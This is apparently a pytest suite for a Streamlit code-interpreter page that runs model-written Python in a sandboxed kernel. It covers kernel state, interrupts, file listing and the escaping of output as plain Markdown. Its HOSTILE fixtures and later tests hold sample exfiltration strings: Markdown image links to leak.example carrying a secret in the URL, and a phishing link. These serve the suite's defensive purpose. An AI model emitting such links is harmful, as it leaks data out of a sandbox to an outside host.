"""The Code Interpreter page through AppTest: sandbox status, a code round in the real sandbox, kernel buttons."""

from __future__ import annotations

import threading
from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from composite.agent import Decision
from composite.messages import Message
from composite.prompts import system_prompt

ROOT = Path(__file__).resolve().parent.parent
# the page starts its sandbox on a background thread: a thread that dies with an exception fails the test
pytestmark = pytest.mark.filterwarnings("error::pytest.PytestUnhandledThreadExceptionWarning")


@pytest.fixture
def code_page(tiny_model_dir, monkeypatch):
    monkeypatch.setenv("MODEL_PATH", str(tiny_model_dir))
    at = AppTest.from_file(str(ROOT / "pages" / "code.py"), default_timeout=90)
    at.run()
    assert not at.exception, at.exception
    at.number_input(key="code_max_new").set_value(4)
    at.slider(key="code_temperature").set_value(0.0)
    at.run()
    yield at
    # AppTest never ends its session, so on_release never fires: clear the caches to shut the kernels down
    st.cache_resource.clear()


def _pending(at, code):
    at.session_state["code_history"] = [
        Message("system", system_prompt("code")),
        Message("user", "compute"),
        Message("assistant", f"```python\n{code}\n```", "interpreter"),
    ]
    at.session_state["code_decision"] = Decision("run")


def test_sandbox_status_is_visible(code_page):
    texts = [s.value for s in code_page.sidebar.success] + [w.value for w in code_page.sidebar.warning]
    assert any(text.startswith("sandbox: full") for text in texts)


def test_a_code_round_runs_in_the_session_sandbox_and_keeps_state(code_page):
    _pending(code_page, "x = 6 * 7\nprint(x)")
    code_page.run()
    assert not code_page.exception
    history = code_page.session_state["code_history"]
    assert history[3].role == "observation" and history[3].content.strip() == "42"
    _pending(code_page, "print(x + 1)")  # same kernel: x survives between runs
    code_page.run()
    assert code_page.session_state["code_history"][3].content.strip() == "43"


def test_errors_are_observations_and_the_page_stays_up(code_page):
    _pending(code_page, "1/0")
    code_page.run()
    obs = code_page.session_state["code_history"][3]
    assert "ZeroDivisionError" in obs.content and obs.extra["status"] == "error"
    assert not code_page.exception


def test_restart_kernel_clears_variables(code_page):
    _pending(code_page, "y = 5")
    code_page.run()
    code_page.button(key="code_restart").click().run()
    _pending(code_page, "print(y)")
    code_page.run()
    assert "NameError" in code_page.session_state["code_history"][3].content


def _press_during_run(at, key, when):
    """Press the button `key` while the page is still running, once `when(live_output)` holds: the
    browser's request (a rerun with that button's trigger set), sent from inside the script run."""
    from streamlit.proto.WidgetStates_pb2 import WidgetStates
    from streamlit.runtime.scriptrunner import RerunData, get_script_run_ctx

    from pages import _shared

    states = WidgetStates()
    states.CopyFrom(at._tree.get_widget_states())
    button_id = at.button(key=key).id
    for widget in states.widgets:
        if widget.id == button_id:
            widget.trigger_value = True
    pressed: list[bool] = []
    update = _shared._LiveOutput.update

    def watching(self, event):
        update(self, event)
        if not pressed and when(self):
            pressed.append(True)
            get_script_run_ctx().script_requests.request_rerun(RerunData(widget_states=states))

    return pressed, watching


def test_interrupt_keeps_the_runs_partial_output_as_an_observation(code_page, monkeypatch):
    from pages import _shared

    pressed, watching = _press_during_run(code_page, "code_interrupt", lambda live: "partial-7f3" in live._text)
    monkeypatch.setattr(_shared._LiveOutput, "update", watching)
    _pending(code_page, "import time\nprint('partial-7f3', flush=True)\ntime.sleep(300)\nprint('never-' + '9c1')")
    code_page.run(timeout=120)
    assert not code_page.exception, code_page.exception
    assert pressed, "the run ended before the interrupt was pressed"
    history = code_page.session_state["code_history"]
    assert [m.role for m in history] == ["system", "user", "assistant", "observation"]
    observation = history[3]
    assert "partial-7f3" in observation.content and "never-9c1" not in observation.content
    assert "interrupted" in observation.content and observation.extra["interrupted"] is True
    assert any("Interrupted by the user" in w.value for w in code_page.warning)  # shown on the page too
    # the conversation goes on: the kernel is free again and the next question reaches the model
    monkeypatch.undo()
    code_page.chat_input[0].set_value("and now?").run()
    assert not code_page.exception, code_page.exception
    roles = [m.role for m in code_page.session_state["code_history"]]
    assert roles[:5] == ["system", "user", "assistant", "observation", "user"] and len(roles) > 5
    _pending(code_page, "print(6 * 7)")
    code_page.run()
    assert code_page.session_state["code_history"][3].content.strip() == "42"


def test_no_running_caption_is_left_once_the_run_has_finished(code_page):
    _pending(code_page, "import time\ntime.sleep(1.5)\nprint('finished-4e2')")  # long enough for the live timer
    code_page.run()
    assert not code_page.exception, code_page.exception
    assert code_page.session_state["code_history"][3].content.strip() == "finished-4e2"
    assert not [c.value for c in code_page.caption if c.value.startswith("running")]


def test_a_file_the_run_writes_is_listed_right_after_that_run(code_page):
    def listed():
        return [b.proto.label for b in code_page.sidebar.get("download_button")]

    assert not any("made-5b1.txt" in label for label in listed())
    _pending(code_page, "open('made-5b1.txt', 'w').write('made')\nprint('written')")
    code_page.run()
    assert code_page.session_state["code_history"][3].content.strip() == "written"
    assert any("made-5b1.txt" in label for label in listed())  # this run's file, not one run late


class _StoppedRun:
    """Stands in for the run an Interrupt press stopped: with runner.fastReruns (Streamlit's default) the next run
    starts at once, beside it, while the stopped run still records its observation and then lets go."""

    def __init__(self, history: list, observation: Message) -> None:
        self._held = threading.Lock()
        self._held.acquire()
        self.asked = threading.Event()
        self._recorder = threading.Thread(target=self._record, args=(history, observation), daemon=True)
        self._recorder.start()

    def _record(self, history, observation) -> None:
        if self.asked.wait(120):  # the new run looks for the stopped one: it records its observation, then lets go
            history.append(observation)
            self._held.release()

    def acquire(self, blocking: bool = True, timeout: float = -1) -> bool:
        self.asked.set()
        return self._held.acquire(blocking, timeout)

    def release(self) -> None:
        self._held.release()


def test_the_run_started_by_interrupt_waits_for_the_stopped_runs_observation(code_page):
    history = [
        Message("system", system_prompt("code")),
        Message("user", "compute"),
        Message("assistant", "```python\nimport time\nprint('partial-2d8')\ntime.sleep(300)\n```", "interpreter"),
    ]
    code_page.session_state["code_history"] = history
    observation = Message("observation", "partial-2d8\n[the user interrupted this run]",
                          extra={"status": "interrupted", "interrupted": True, "note": "Interrupted by the user"})
    stopped = _StoppedRun(history, observation)
    code_page.session_state["code_run_lock"] = stopped
    code_page.button(key="code_interrupt").click().run()
    assert not code_page.exception, code_page.exception
    assert stopped.asked.is_set(), "the new run did not wait for the stopped one"
    assert any("partial-2d8" in e.value for e in code_page.error)  # the stopped run's observation is on the page
    assert any("Interrupted by the user" in w.value for w in code_page.warning)


HOSTILE = [
    "![x](http:/leak.example/p.png?secret=42) and [click](https://phish.example)",
    "<img src=https://leak.example/q.png> <https://leak.example/auto>",
    "print(9**9**9) raised __KeyboardInterrupt__ :red[alarm] :material/warning: $x^2$ `code` ~~gone~~",
    "# not a title\n| a | b |\n- not a list item\n1. nor this\n    nor a code block\n===",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_plain_markdown_shows_hostile_text_as_it_is(text):
    """Checked with a CommonMark parser (markdown-it): no link, image, HTML, emphasis or code comes out,
    and the visible text is exactly the input."""
    import html
    import re

    from markdown_it import MarkdownIt

    from pages._shared import plain_markdown

    rendered = MarkdownIt("commonmark", {"html": True}).enable("strikethrough").enable("table").render(plain_markdown(text))
    assert not re.search(r"<(a|img|em|strong|code|s|del|h\d|table|li|ul)\b", rendered), rendered
    shown = html.unescape(re.sub(r"<br ?/?>\n?", "\n", re.sub(r"</?p>\n?", "", rendered)))
    assert shown.replace("\u00a0", " ").strip() == text.strip()


def test_kernel_output_and_errors_reach_the_page_as_plain_text(code_page):
    """The observation's label (its first output line) and an error's body are Markdown in Streamlit: the kernel's
    text must not become an image the browser fetches (a way out of the network-less sandbox) or lose its `**`."""
    from pages._shared import plain_markdown

    leak = "![x](http:/leak.example/p.png?secret=42)"
    _pending(code_page, f"print({leak!r})")
    code_page.run()
    assert not code_page.exception, code_page.exception
    labels = [e.proto.label for e in code_page.get("status")]
    assert any(plain_markdown(leak) in label for label in labels), labels
    assert not any(leak in label for label in labels), labels
    _pending(code_page, "raise ValueError('bad ![y](http:/leak.example/e.png) 9**9**9')")
    code_page.run()
    errors = [e.value for e in code_page.main.error if "ValueError" in e.value]
    assert errors and all(plain_markdown("![y](http:/leak.example/e.png) 9**9**9") in body for body in errors), errors


def test_an_image_caption_from_a_kernel_made_name_is_plain_text():
    """st.image's caption is Markdown as well: a plot's name comes from the kernel (or an imported conversation)."""
    from pages._shared import plain_markdown

    def app():
        import io

        from PIL import Image

        from pages._shared import show_image

        buf = io.BytesIO()
        Image.new("RGB", (4, 4)).save(buf, "PNG")
        show_image(buf.getvalue(), "![x](http:/leak.example/c.png).png")

    at = AppTest.from_function(app).run()
    assert not at.exception
    captions = [img.caption for node in at.get("image") for img in node.proto.imgs]
    assert captions == [plain_markdown("![x](http:/leak.example/c.png).png")], captions
